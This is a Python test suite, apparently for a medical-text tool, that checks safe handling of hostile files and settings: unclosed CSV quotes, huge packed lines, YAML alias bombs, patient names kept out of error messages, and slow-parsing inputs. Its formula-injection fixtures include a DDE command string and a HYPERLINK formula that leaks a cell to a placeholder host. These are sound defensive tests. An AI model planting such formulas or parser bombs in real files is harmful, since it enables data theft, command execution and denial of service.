"""What hostile or broken files and settings may cost: bounded memory and time, a sentence with a
place, and no row lost uncounted."""

import contextlib
import csv
import gzip
import io
import json
import random
import socket
import subprocess
import sys
import threading
import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from medray import cli
from medray.batch import inputs, pieces, rows
from medray.batch import output as output_files
from medray.batch.output import BatchOutput, encode
from medray.batch.rows import InputRow
from medray.batch.shards import TextColumns
from medray.config import files
from medray.config.load import load_study, plugin_options
from medray.data import corrections, minhash
from medray.data.formats import delimited, jsonl, pubtator, raw_abstracts, spans, symptom_table
from medray.data.formats import tables as tables_format
from medray.errors import ArtifactError, ConfigError, DataError, MedrayError
from medray.evaluation import leaderboard_files
from medray.registry.predictions import read_predictions
from medray.reports import review
from medray.storage.store import open_store
from medray.study.run import Run
from medray.tasks.base import labels
from medray.tasks.extraction import json_list
from medray.tasks.instruct import figures
from medray.tasks.instruct.safety import is_refusal
from medray.text import csv_text, language
from medray.types import Example

PATIENT = "Jane Canary Roe, born 1950, MRN 4711"  # what no message may repeat
COLUMNS = TextColumns(("text",), "id")


def read(path: Path, columns: TextColumns = COLUMNS, most: int = 1_000_000) -> list[InputRow]:
    source = inputs.find(str(path))
    return [row for shard in source.shards for row in rows.read(shard, columns, most)]


def bad(rows: list[InputRow]) -> list[InputRow]:
    return [row for row in rows if row.fault]


def file_with_open_quote(path: Path, closing: str, num_rows: int = 5000) -> Path:
    """A file in which a quote opens and takes in the rows behind it."""
    before = "".join(f"a{number},good row {number}\n" for number in range(num_rows))
    path.write_text(f'id,text\n{before}bad,"opened\n' + before.replace("a", "b") + closing)
    return path


# A quote that never closes


@pytest.mark.parametrize(
    ("closing", "reason"),
    [
        ("", "does not close"),
        ('z,"x"\n', "goes on where its quote closes"),
        ('z,a disk of 5"\n', "holds 5000 lines that are rows themselves"),
    ],
)
def test_the_rows_that_an_open_quote_takes_in_are_counted(
    tmp_path: Path, closing: str, reason: str
) -> None:
    path = file_with_open_quote(tmp_path / "lost.csv", closing)
    rows = read(path)
    assert len(rows) >= 10_000
    assert [row.text for row in rows[:5000]] == [f"good row {number}" for number in range(5000)]
    assert len(bad(rows)) == 5001 + bool(closing)
    assert {row.reason for row in bad(rows)} == {
        f"the quoted field that opens in line 5002 {reason}"
    }
    assert [row.where for row in bad(rows)][:2] == ["lost.csv:5002", "lost.csv:5003"]
    assert len(pieces.scan(inputs.find(str(path)).shards[0], COLUMNS, 1000).ids) == len(
        rows
    )  # what --max-bad is a share of


@pytest.mark.parametrize("closing", ["", 'z,"x"\n', 'z,a disk of 5"\n'])
def test_study_data_with_an_open_quote_is_refused_with_its_line(
    tmp_path: Path, closing: str
) -> None:
    path = file_with_open_quote(tmp_path / "lost.csv", closing, 300)
    options = delimited.Options(
        name="delimited", path=str(path), text=("text",), label=None, id="id"
    )
    with pytest.raises(
        DataError, match=r"lost\.csv:302: the quoted field that opens in line 302 "
    ) as error:
        list(delimited.read(options))
    assert "good row" not in str(error.value)
    (tmp_path / "fixed.csv").write_text('id,label\na1,x\na2,"opened\n' + "a3,x\n" * 200 + closing)
    with pytest.raises(DataError, match=r"fixed\.csv:3: the quoted field that opens in line 3 "):
        corrections.apply([Example("a1", "a", ("x",))], tmp_path / "fixed.csv", ())
    (tmp_path / "table.csv").write_text(
        'Disease,Symptom_1\nflu,fever\ncold,"cough\n' + "flu,fever\n" * 50
    )
    with pytest.raises(
        DataError, match=r"table\.csv:3: the quoted field that opens in line 3 does not close"
    ):
        list(
            symptom_table.read(
                symptom_table.Options(name="symptom_table", path=str(tmp_path / "table.csv"))
            )
        )


def test_an_open_quote_takes_in_no_more_lines_than_a_row_may_have(tmp_path: Path) -> None:
    path = file_with_open_quote(tmp_path / "lost.csv", "", 30_000)
    rows = read(path)
    assert len(bad(rows)) == csv_text.MOST_LINES + 1
    assert sum(not row.fault for row in rows) == 60_000 - csv_text.MOST_LINES


def test_long_texts_in_quotes_are_read_as_before(tmp_path: Path) -> None:
    note = "\n".join(
        f"Day {day}: no fever, no pain, wound dry.\n" for day in range(1500)
    )  # 3,000 lines, 60 kB
    labs = "\n".join(
        ["Results", *(f"value {number}, 4.{number} mmol/l" for number in range(40))]
    )  # rows of two values, nearly
    output = 'He said: "no pain", and left.'
    texts = [note, labs, output, "long " * 100_000]
    with (tmp_path / "rows.csv").open("w", newline="") as file:
        csv.writer(file).writerows(
            [["id", "text"], *([f"r{number}", text] for number, text in enumerate(texts))]
        )
    assert [(row.text, row.fault) for row in read(tmp_path / "rows.csv")] == [
        (text.strip(), "") for text in texts
    ]
    options = delimited.Options(
        name="delimited", path=str(tmp_path / "rows.csv"), text=("text",), label=None, id="id"
    )
    assert [example.text for example in delimited.read(options)] == [text.strip() for text in texts]


def test_a_list_in_a_text_is_no_table(tmp_path: Path) -> None:
    labs = "\n".join(
        ["Results", *(f"value {number}, 4.{number}, mmol/l" for number in range(40)), "end"]
    )
    with (tmp_path / "rows.csv").open("w", newline="") as file:
        csv.writer(file).writerows(
            [["id", "text", "label"], ["r1", labs, "a"], ["r2", "fever", "b"]]
        )
    assert [(row.text, row.fault) for row in read(tmp_path / "rows.csv")] == [
        (labs, ""),
        ("fever", ""),
    ]


@pytest.mark.real
def test_real_files_lose_no_row(real_data: Path) -> None:
    rows = read(real_data / "abstracts" / "medical_abstracts.csv", TextColumns(("abstract",), None))
    assert (len(rows), bad(rows)) == (2305, [])


# What is packed


def test_a_packed_line_of_a_quarter_of_a_gigabyte_does_not_fill_memory(tmp_path: Path) -> None:
    for name, begin in (
        ("a.jsonl.gz", b'{"id":"1","text":"'),
        ("b.csv.gz", b'id,text\n1,"'),
        ("c.txt.gz", b""),
    ):
        with gzip.open(tmp_path / name, "wb", 1) as file:
            file.write(begin)
            for _ in range(250):
                file.write(b"a" * 1_000_000)
            file.write(b'"}\n{"id":"2","text":"fever"}\n' if b"{" in begin else b'"\n2,fever\n')
    table = {
        "id": [1] * 500,
        "text": pa.DictionaryArray.from_arrays(pa.array([0] * 500, pa.int32()), ["a" * 1_100_000]),
    }
    pq.write_table(pa.table(table), tmp_path / "d.parquet", compression="zstd")
    script = """
import sys
from pathlib import Path
from medray.batch import inputs, rows
from medray.batch.shards import TextColumns
for path in sys.argv[1:]:
    source = inputs.find(path)
    columns = TextColumns(("text",), "id") if source.form != "texts" else TextColumns()
    inputs.head(source)
    for row in list(rows.read(source.shards[0], columns, 1_000_000))[:2]:
        print(row.fault or row.text)
    # rusage has that of pytest
    print(int(Path("/proc/self/status").read_text().split("VmHWM:")[1].split()[0]) >> 10)
"""
    paths = [str(path) for path in sorted(tmp_path.iterdir())]
    process = subprocess.run(
        [sys.executable, "-c", script, *paths],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    output = process.stdout.splitlines()
    too_long = rows.TOO_LONG
    assert [output[0], output[1], output[3], output[4], output[6], output[8]] == [
        too_long,
        "fever",
        rows.UNREADABLE,
        "fever",
        too_long,
        too_long,
    ]
    assert int(output[-1]) < 500, (
        output
    )  # MiB, libraries included; 1,600 where each whole line becomes a text


def test_a_packed_file_that_is_damaged_is_a_sentence(tmp_path: Path) -> None:
    whole = gzip.compress(
        "".join(
            json.dumps({"id": str(n), "text": f"text {random.Random(n).random()}"}) + "\n"
            for n in range(9999)
        ).encode()
    )
    (tmp_path / "half.jsonl.gz").write_bytes(whole[: len(whole) // 2])
    with pytest.raises(DataError, match=r"half\.jsonl\.gz: cannot be read to its end: "):
        read(tmp_path / "half.jsonl.gz")


def test_a_line_without_end_is_refused_in_study_data() -> None:
    with pytest.raises(
        DataError, match=r"/dev/zero:1: the line is longer than 16777216 characters"
    ):
        list(jsonl.read(jsonl.Options(name="jsonl", path="/dev/zero")))


@pytest.mark.parametrize("ending", ["parquet", "arrow"])
def test_a_text_that_a_table_keeps_once_is_not_in_memory_for_every_row(
    tmp_path: Path, ending: str
) -> None:
    path, text = tmp_path / f"rows.{ending}", "a" * 3_000_000
    table = pa.table(
        {"text": pa.DictionaryArray.from_arrays(pa.array([0] * 500, pa.int32()), [text])}
    )
    if ending == "parquet":
        pq.write_table(table, path, compression="zstd")
    else:
        with pa.OSFile(str(path), "wb") as sink, pa.ipc.new_file(sink, table.schema) as file:
            file.write_table(table)
    tracemalloc.start()
    options = tables_format.Options(name="tables", path=str(path), label=None)
    num_rows = sum(len(example.text) == len(text) for example in tables_format.read(options))
    peak = tracemalloc.get_traced_memory()[1] + pa.default_memory_pool().max_memory()
    tracemalloc.stop()
    assert num_rows == 500
    assert peak < 1_000_000_000  # all at once, they would be 1.5 GB as texts alone


# What messages repeat


def message(run: Callable[[], Any]) -> str:
    with pytest.raises(MedrayError) as error:
        run()
    return str(error.value)


@pytest.mark.parametrize(
    "content",
    [
        f"<ID: {PATIENT}\nTitle: x\n",
        f"<ID:7>\n{PATIENT} has carcinoma\n",
        "<ID:7>\nTitle: x\nJane Canary: a\nJane Canary: b\n",
        "<ID:7>\nTitle: x\nJane Canary: a\n",
    ],
)
def test_reasons_of_texts_set_aside_name_the_place_and_the_kind_only(
    tmp_path: Path, content: str
) -> None:
    (tmp_path / "note.txt").write_text(content)
    (row,) = read(tmp_path, TextColumns())
    assert row.fault == rows.UNREADABLE
    assert row.reason.startswith("note.txt:")
    assert not any(part in row.reason for part in ("Canary", "1950", "4711"))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("rows.csv", f'id,text\n1,"{PATIENT}"x\n'),
        ("rows.csv", f"id,text\n1,{PATIENT}\n"),
        ("rows.csv", f'id,text\n1,"{PATIENT}\n'),
        ("rows.jsonl", f'{{"id": "1", "text": "{PATIENT}"\n'),
        ("rows.jsonl", f'["{PATIENT}"]\n'),
        ("rows.jsonl", f'{{"id": ["{PATIENT}"], "text": "a"}}\n'),
        ("rows.jsonl", f'{{"id": "1", "text": ["{PATIENT}"]}}\n'),
    ],
)
def test_reasons_of_rows_set_aside_hold_no_text(tmp_path: Path, name: str, content: str) -> None:
    (tmp_path / name).write_text(content)
    row = read(tmp_path / name)[0]
    assert row.fault
    assert not any(part in f"{row.id} {row.reason}" for part in ("Canary", "1950", "4711"))


def test_errors_of_study_data_hold_no_text(tmp_path: Path) -> None:
    path = tmp_path / "rows"
    output = []
    for content in (
        f"1|t|a\n1|a|b\n{PATIENT}\t0\t1\ta\tD\n",
        f"{PATIENT}\n",
        f"1|t|a\n{PATIENT}|a|b\n",
        f"1|t|a\n1|a|b\n1\t{PATIENT}\t1\ta\tD\n",
    ):
        path.write_text(content)
        output.append(
            message(lambda: list(pubtator.read(pubtator.Options(name="pubtator", path=str(path)))))
        )
    for mention in (
        {"start": 0, "end": 4, "text": PATIENT},
        {"start": PATIENT, "end": 4},
        {"start": 4, "end": 12},
    ):
        path.write_text(json.dumps({"text": PATIENT, "mentions": [mention]}) + "\n")
        output.append(
            message(lambda: list(spans.read(spans.Options(name="spans", path=str(path)))))
        )
    path.write_text(json.dumps({"text": "a", "label": {"name": PATIENT}}) + "\n")
    output.append(message(lambda: list(jsonl.read(jsonl.Options(name="jsonl", path=str(path))))))
    assert not any(part in line for line in output for part in ("Canary", "1950", "4711")), output


BREAKS = "r\u2028\x85\x0b\x1c1"  # where Python ends a line of a text, and JSON does not


def test_an_id_with_a_line_separator_of_unicode_does_not_cut_what_medray_stores(
    tmp_path: Path,
) -> None:
    output = BatchOutput(open_store(str(tmp_path / "out")), "jsonl")
    output.write(
        0,
        0,
        pa.table({"id": []}),
        [InputRow(BREAKS, "", "rows.jsonl:1", fault=rows.EMPTY, reason="the text is empty")],
        0,
    )
    assert [line["id"] for line in output.set_aside()] == [BREAKS]
    line = json.dumps(
        {"row_id": BREAKS, "labels": ["a"], "probabilities": [1.0]}, ensure_ascii=False
    )
    (tmp_path / "predictions.jsonl").write_text(f"{line}\n", encoding="utf-8")
    assert [prediction.row_id for prediction in read_predictions(tmp_path)] == [BREAKS]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("_run.json", b"{"),
        ("_run.json", b"[]"),
        ("_run.json", b"\xff"),
        ("_summary.json", b"["),
        ("_done/copy", b""),
        ("_done/0-0.1", b""),
    ],
)
def test_a_file_of_an_output_that_was_damaged_is_one_sentence(
    tmp_path: Path, name: str, content: bytes
) -> None:
    path = tmp_path / "out" / name
    path.parent.mkdir(parents=True)
    path.write_bytes(content)
    output = BatchOutput(open_store(str(tmp_path / "out")), "jsonl")
    record = output_files.Record.model_construct(piece_rows=1)
    readers: dict[str, Callable[[], object]] = {
        "_run.json": lambda: output.begin(record, resume=True),
        "_summary.json": output.summary,
    }
    with pytest.raises(
        ArtifactError,
        match=r": is not a file of this medray; restore it, or choose another --output$",
    ):
        readers.get(name, output.notes)()


def test_a_line_about_rows_that_were_set_aside_that_was_damaged_is_one_sentence(
    tmp_path: Path,
) -> None:
    (tmp_path / "_set_aside").mkdir()
    (tmp_path / "_set_aside" / "part-00000-000000.jsonl").write_text('{"id": "Canary')
    with pytest.raises(
        ArtifactError, match=r"part-00000-000000\.jsonl: is not a file of this medray"
    ) as refusal:
        list(BatchOutput(open_store(str(tmp_path)), "jsonl").set_aside())
    assert "Canary" not in str(refusal.value)


@pytest.mark.parametrize("number", ["²", "9" * 5000])
def test_a_number_that_is_none_is_an_error_of_its_line(tmp_path: Path, number: str) -> None:
    (tmp_path / "rows.txt").write_text(f"1|t|a\n1|a|b\n1\t{number}\t1\ta\tD\n")
    with pytest.raises(DataError, match=r"rows\.txt:3: start and end must be whole numbers"):
        list(pubtator.read(pubtator.Options(name="pubtator", path=str(tmp_path / "rows.txt"))))


# Cells that a spreadsheet would run

FORMULAS = [
    '=HYPERLINK("http://evil","x")',
    "+1-1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    " =1",
    "＝1",
    "=cmd|' /C calc'!A1",
    "- item",
    "'=1",
    "''@x",
]
HARMLESS = ["-0.5", "+3", "-1e-05", "carcinoma", "'tis", "", "a=b", "5-HT", "'-0.5"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_run(cell: str) -> bool:
    """As a spreadsheet decides it: a number is none."""
    try:
        float(cell)
    except ValueError:
        return bool(cell.strip()) and cell.strip()[0] in "=+-@＝＋－＠"
    return False


def test_no_cell_of_a_table_for_people_is_a_formula() -> None:
    table = pa.table(
        {
            "id": FORMULAS,
            "label": FORMULAS,
            "labels": [[text] for text in FORMULAS],
            "confidence": [-0.5] * len(FORMULAS),
        }
    )
    cells_of_text = cells(encode(table, "csv").decode())
    assert not any(is_run(cell) for row in cells_of_text for cell in row)
    assert {row[3] for row in cells_of_text[1:]} == {"-0.5"}  # a number stays one
    assert [csv_text.restore_cell(row[0]) for row in cells_of_text[1:]] == FORMULAS
    board = cells(
        leaderboard_files.to_csv(
            [
                {"name": text, f"settings.{text}": text, text: -1.5, "error": None}
                for text in FORMULAS
            ]
        )
    )
    assert not any(is_run(cell) for row in board for cell in row)
    assert {cell for row in board[1:] for cell in row if cell.endswith("1.5")} == {"-1.5"}


def test_every_text_comes_back_as_it_was() -> None:
    rng = random.Random(3)
    texts = (
        FORMULAS
        + HARMLESS
        + ["".join(rng.choices("'=+-@ \t1.5ea＝\n", k=rng.randint(0, 6))) for _ in range(5000)]
    )
    cells_of_text = [
        cells(csv_text.write_table(["a", "b"], [{"a": text, "b": 1}]))[1][0] for text in texts
    ]
    assert [csv_text.restore_cell(cell) for cell in cells_of_text] == texts
    assert cells_of_text[len(FORMULAS) : len(FORMULAS) + len(HARMLESS)] == HARMLESS
    assert not any(is_run(cell) for cell in cells_of_text)


def test_a_row_that_looks_like_a_formula_is_exported_harmless_and_corrected_by_its_own_id(
    tmp_path: Path,
) -> None:
    path = tmp_path / "review.csv"
    ids, label = ["=cmd()", "-2+3", "'=x", "r1"], "=HYPERLINK(1)"
    review.export(
        [
            review.ReviewRow(id=row_id, given=(label, "b"), text='=HYPERLINK("http://evil?x="&A1)')
            for row_id in ids
        ],
        path,
    )
    cells_of_export = cells(path.read_text())
    assert not any(is_run(cell) for row in cells_of_export for cell in row)
    for delimiter in ",;":
        with path.open(
            "w", newline="", encoding="utf-8-sig"
        ) as file:  # as a spreadsheet saves what somebody filled in
            csv.writer(file, delimiter=delimiter).writerows(
                [cells_of_export[0], *([row[0], row[2], *row[2:]] for row in cells_of_export[1:])]
            )
        result_of_corrections = corrections.apply(
            [Example(row_id, "a", ("b",)) for row_id in ids], path, (label,)
        )
        assert [example.labels for example in result_of_corrections.examples] == [(label, "b")] * 4


# Settings

LAUGHS = "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + number)}: &{chr(98 + number)} [{','.join(['*' + chr(97 + number)] * 10)}]\n"
    for number in range(8)
)
MERGES = "a: &a {k: 1}\n" + "".join(
    f"{chr(98 + number)}: &{chr(98 + number)} {{<<: [{','.join(['*' + chr(97 + number)] * 10)}]}}\n"
    for number in range(8)
)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (f"{LAUGHS}name: *i\n", "keys and values with what its aliases repeat"),
        (
            f"{LAUGHS}seed: *i\nname: x\ndata: {{format: {{name: jsonl, path: a, id: *i}}}}\n",
            "keys and values with what its aliases repeat",
        ),
        (f"{MERGES}name: *i\n", "keys and values with what its aliases repeat"),
        ("a: &a [*a]", "without end"),
        ("a: " + "[" * 5000, "nested too deeply"),
        ("".join(f"k{number}: 1\n" for number in range(40_000)), "is longer than 262144 bytes"),
        ("seed: " + "9" * 5000, "is not valid YAML"),
        ("seed: 2020-13-45", "is not valid YAML"),
        ("seed: !!bool x", "is not valid YAML"),
        ("seed: !!int ''", "is not valid YAML"),
    ],
)
def test_settings_that_would_grow_or_break_the_reader_are_a_sentence(
    tmp_path: Path, content: str, message: str
) -> None:
    path = tmp_path / "study.yaml"
    path.write_text(content)
    with pytest.raises(ConfigError, match=message) as error:
        load_study([path])
    assert len(str(error.value)) < 1000
    with pytest.raises(ConfigError, match=message):
        files.parse_value("seed=...", content)


def test_a_file_without_end_is_no_study() -> None:
    with pytest.raises(ConfigError, match="/dev/zero: is longer than 262144 bytes"):
        load_study(["/dev/zero"])


def test_of_many_unknown_keys_some_are_named_and_the_others_counted(tmp_path: Path) -> None:
    (tmp_path / "study.yaml").write_text("".join(f"k{number}: 1\n" for number in range(15_000)))
    with pytest.raises(ConfigError, match=r"has 14985 mistakes more") as error:
        load_study([tmp_path / "study.yaml"])
    assert len(str(error.value).splitlines()) == 21


@pytest.mark.parametrize("at", ["²", "9" * 5000, "99", "-1"])
def test_a_position_that_a_list_has_not_is_a_sentence(at: str) -> None:
    with pytest.raises(ConfigError, match="is not a position in a list of 1") as error:
        files.put(
            {"base_models": [{"source": "a"}]},
            f"base_models.{at}.source",
            "x",
            where=f"base_models.{at}.source=x",
        )
    assert len(str(error.value)) < 500


def test_a_hub_that_never_answers_is_waited_for_once(tmp_path: Path) -> None:
    with socket.socket() as silent:
        silent.bind(("127.0.0.1", 0))
        silent.listen(50)
        connections: list[socket.socket] = []

        def accept() -> None:
            while True:
                try:
                    connections.append(silent.accept()[0])
                except OSError:
                    return

        threading.Thread(target=accept, daemon=True).start()
        script = "from medray.models import download\nprint(download.is_reached())"
        env = {
            "PATH": "/usr/bin:/bin",
            "HOME": str(tmp_path),
            "HF_HOME": str(tmp_path),
            "HF_HUB_ETAG_TIMEOUT": "2",
        }
        env["HF_ENDPOINT"] = f"http://127.0.0.1:{silent.getsockname()[1]}"
        process = subprocess.run(
            [sys.executable, "-c", script],
            capture_output=True,
            text=True,
            env=env,
            timeout=100,
            check=True,
        )
        assert process.stdout.strip() == "False"
        heads = [each for each in connections if each.recv(4) == b"HEAD"]
        assert len(heads) == 1


def test_a_study_whose_run_could_not_be_read_again_does_not_start(tmp_path: Path) -> None:
    parts = {
        "base": {
            "name": "big",
            "base_models": [{"source": "a"}],
            "task": {"name": "classification"},
            "train": {"epochs": 1},
        }
    }
    parts["labels"] = {
        "data": {"format": {"name": "jsonl", "path": "a", "labels": ["a" * 200_000]}}
    }
    parts["text"] = {"storage_path": str(tmp_path), "data": {"format": {"id": "a" * 200_000}}}
    for name, part in parts.items():
        (tmp_path / f"{name}.yaml").write_text(json.dumps(part))
    study = load_study([tmp_path / f"{name}.yaml" for name in parts])
    with pytest.raises(
        ConfigError,
        match=r"^study big, with all its files and settings, is longer than 262144 bytes",
    ):
        Run.start(study)
    assert not (tmp_path / "big").exists()


# The command


@pytest.mark.parametrize("name", ["afile", "afile.csv", "afile/below"])
def test_an_output_that_is_a_file_is_refused_and_left_alone(
    tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / name.partition("/")[0]).write_text("precious")
    (tmp_path / "in.csv").write_text("id,text\n1,fever\n")
    arguments = [
        "predict",
        "cancer@best",
        "--input",
        str(tmp_path / "in.csv"),
        "--storage-path",
        str(tmp_path / "runs"),
    ]
    assert cli.main([*arguments, "--output", str(tmp_path / name)]) == 1
    output = capsys.readouterr().err
    assert "is not a folder that can be written to" in output
    assert len(output.splitlines()) == 1
    assert (tmp_path / name.partition("/")[0]).read_text() == "precious"


@pytest.mark.parametrize("command", ["init", "review", "report"])
def test_a_path_that_cannot_be_is_one_sentence(
    command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.main([command, "a" * 5000]) == 1
    output = capsys.readouterr().err
    assert output == f"medray: {'a' * 200}: cannot be used: File name too long\n"


# Time in proportion to length


def parse_file(content: str) -> None:
    with contextlib.suppress(DataError):
        raw_abstracts.parse(
            io.StringIO(content),
            "a.txt",
            "a",
            raw_abstracts.Options(name="raw_abstracts", path="a"),
        )


def table(content: str) -> None:
    for row in csv_text.read_rows(io.StringIO(content, newline=""), ","):
        csv_text.restore_cell(row.reason)


def header(content: str, folder: Path) -> None:
    (folder / "wide.csv").write_text(content)
    with pytest.raises(DataError):
        list(delimited.read(delimited.Options(name="delimited", path=str(folder / "wide.csv"))))


def options(content: str, _: Path) -> None:
    with pytest.raises(ConfigError):
        plugin_options("data.formats", f"name=jsonl,path={content}")


def study(content: str, folder: Path) -> None:
    (folder / "study.yaml").write_text(content[: 200 << 10])
    files.read_yaml(folder / "study.yaml")


def different(content: str, folder: Path) -> None:
    (folder / "rows.jsonl").write_text(content)
    with pytest.raises(DataError, match="different names"):
        jsonl.sniff(folder / "rows.jsonl")


def alone(run: Callable[[str], Any]) -> Callable[[str, Path], Any]:
    return lambda content, _: run(content)


SCANNERS: dict[str, tuple[Callable[[str, Path], Any], Callable[[int], str]]] = {
    "id of an abstract": (alone(parse_file), lambda n: "<ID:" + " " * n + "x"),
    "id that closes": (alone(parse_file), lambda n: "<ID:" + " x" * (n // 2) + ">"),
    "keys of an abstract": (alone(parse_file), lambda n: "<ID:1>\n" + "Aa b-" * (n // 5) + ": x"),
    "lines of an abstract": (
        alone(parse_file),
        lambda n: "<ID:1>\nTitle: a\n" + "A: b\n" * (n // 5),
    ),
    "quotes": (alone(table), lambda n: '"' * n),
    "quotes and text": (alone(table), lambda n: 'a,"b"c\n' * (n // 7)),
    "open quote": (alone(table), lambda n: 'a,b\nc,"' + "d\n" * (n // 2)),
    "escaped quotes": (alone(table), lambda n: 'a,b\nc,"' + '""' * (n // 2) + "x"),
    "fields, then an open quote": (alone(table), lambda n: '"a",' * (n // 4) + '"'),
    "columns": (header, lambda n: "a," * (n // 2)),
    "rows of different names": (
        different,
        lambda n: "".join(f'{{"k{number}": 1}}\n' for number in range(2000 + n // 14)),
    ),
    "apostrophes of a cell": (alone(csv_text.restore_cell), lambda n: "'" * n),
    "number in a cell": (alone(csv_text.restore_cell), lambda n: "'-" + "1" * n + "x"),
    "blanks in a cell": (alone(csv_text.restore_cell), lambda n: "'-1" + " " * n + "x"),
    "commas of options": (options, lambda n: "," * n),
    "brackets of options": (options, lambda n: "[," * (n // 2)),
    "keys of settings": (study, lambda n: "".join(f"k{number}: 1\n" for number in range(n // 160))),
    "language": (alone(language.guess), lambda n: "a b1 " * (n // 5)),
    "normal form": (alone(minhash.normalize), lambda n: "ﷺ" * (n // 18)),
    "list in quotes": (alone(json_list.read), lambda n: '["' + '" ' * (n // 2)),
    "list with apostrophes": (alone(json_list.read), lambda n: "['" + "' x" * (n // 3)),
    "list with escapes": (alone(json_list.read), lambda n: '["' + "\\a" * (n // 2)),
    "list of words": (alone(json_list.read), lambda n: "[" + "a b " * (n // 4)),
    "list of objects": (alone(json_list.read), lambda n: "[{" + '"a" ' * (n // 4) + "}"),
    "brackets": (alone(json_list.read), lambda n: "[" * n),
    "mention in its text": (
        alone(lambda text: json_list.ground(text, [json_list.Item("a a-b")], ["x"])),
        lambda n: "a -" * (n // 3),
    ),
    "refusal": (alone(is_refusal), lambda n: "i cannot safely " * (n // 16)),
    "apologies": (alone(is_refusal), lambda n: "sorry. " * (n // 7)),
    "quoted refusal": (alone(is_refusal), lambda n: '"' + "a" * n),
    "words": (alone(figures.words), lambda n: "a'" * (n // 2)),
    "label in an answer": (
        alone(lambda text: labels.first_label(text, ["lung cancer"])),
        lambda n: "lung " * (n // 5),
    ),
}


@pytest.mark.parametrize("name", SCANNERS)
def test_time_grows_no_faster_than_what_is_read(name: str, tmp_path: Path) -> None:
    run, make = SCANNERS[name]
    seconds: list[float] = []
    for size in (1 << power for power in range(10, 21)):
        content = make(size)
        seconds.append(cpu_seconds(run, content, tmp_path))
        if len(seconds) > 2 and seconds[-3] > 0.01 and seconds[-1] > 9 * seconds[-3]:
            # Four times as long takes four times as much; sixteen times would be quadratic.
            again = range(2 if seconds[-1] < 2 else 0)  # a neighbour may have taken the caches
            least = min([seconds[-1], *(cpu_seconds(run, content, tmp_path) for _ in again)])
            assert least < 9 * seconds[-3], (
                f"{size} characters: {least:.3f} s, a quarter of them {seconds[-3]:.3f} s"
            )


def cpu_seconds(run: Callable[[str, Path], Any], content: str, folder: Path) -> float:
    start = time.thread_time()
    run(content, folder)
    return time.thread_time() - start
